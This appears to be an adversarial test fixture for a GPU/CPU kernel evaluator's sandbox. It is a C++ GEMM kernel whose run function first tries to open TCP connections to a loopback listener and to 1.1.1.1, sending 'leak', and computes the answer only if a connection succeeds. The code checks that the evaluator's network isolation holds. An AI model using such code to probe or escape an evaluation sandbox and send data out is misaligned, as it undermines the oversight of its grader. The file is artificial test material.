// Trick: open a network socket (to exfiltrate inputs or fetch answers): a TCP connection to a listener on the
// host's loopback and to a public address. It writes the answer only if a connection succeeded, so under the
// sandbox (a fresh network namespace) the output stays unwritten. Expected: INCORRECT_NUMERICAL (never written).
#include <arpa/inet.h>
#include <cstdio>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>
#include <tvm/ffi/c_api.h>

#include <cstdint>

// fp32 C[M,N] = A[M,K] @ B[N,K]^T on host tensors (task tests/evaluator/tasks/tiny_gemm, CPU mode).
static void host_gemm(DLTensor* a, DLTensor* b, DLTensor* c) {
  const int64_t m = a->shape[0], k = a->shape[1], n = b->shape[0];
  const float* pa = static_cast<const float*>(a->data);
  const float* pb = static_cast<const float*>(b->data);
  float* pc = static_cast<float*>(c->data);
  for (int64_t i = 0; i < m; ++i)
    for (int64_t j = 0; j < n; ++j) {
      float acc = 0.f;
      for (int64_t p = 0; p < k; ++p) acc += pa[i * k + p] * pb[j * k + p];
      pc[i * n + j] = acc;
    }
}

static bool connect_to(const char* ip, int port) {
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) return false;
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(port);
  inet_pton(AF_INET, ip, &addr.sin_addr);
  timeval tv{2, 0};
  setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
  bool ok = connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr) == 0;
  if (ok) { ssize_t ignored = write(fd, "leak\n", 5); (void)ignored; }
  close(fd);
  std::printf("connect %s:%d: %s\n", ip, port, ok ? "CONNECTED" : "failed");
  return ok;
}

void run_impl(DLTensor* a, DLTensor* b, DLTensor* c) {
  // 47613: the port the CPU test listens on (tests/evaluator/test_adversarial_cpu.py).
  bool reached = connect_to("127.0.0.1", 47613);
  reached = connect_to("1.1.1.1", 53) || reached;
  if (reached) host_gemm(a, b, c);
}

// The entry point through TVM-FFI's C ABI (tvm/ffi/c_api.h) instead of its C++ headers, which cost nvcc ~8 s of
// parsing: what TVM_FFI_DLL_EXPORT_TYPED_FUNC makes, written out for three tensors. The trick above is the subject.
static DLTensor* tensor_arg(const TVMFFIAny* args, int i) {
  return args[i].type_index == kTVMFFIDLTensorPtr ? static_cast<DLTensor*>(args[i].v_ptr)
                                                   : TVMFFITensorGetDLTensorPtr(args[i].v_obj);
}
#define TVM_FFI_DLL_EXPORT_TYPED_FUNC(name, fn)                                                                 \
  extern "C" __attribute__((visibility("default"))) int __tvm_ffi_##name(void*, const TVMFFIAny* args,          \
                                                                         int32_t num_args, TVMFFIAny* result) { \
    if (num_args != 3) return -1;                                                                              \
    fn(tensor_arg(args, 0), tensor_arg(args, 1), tensor_arg(args, 2));                                         \
    result->type_index = kTVMFFINone;                                                                          \
    return 0;                                                                                                  \
  }
TVM_FFI_DLL_EXPORT_TYPED_FUNC(run, run_impl)
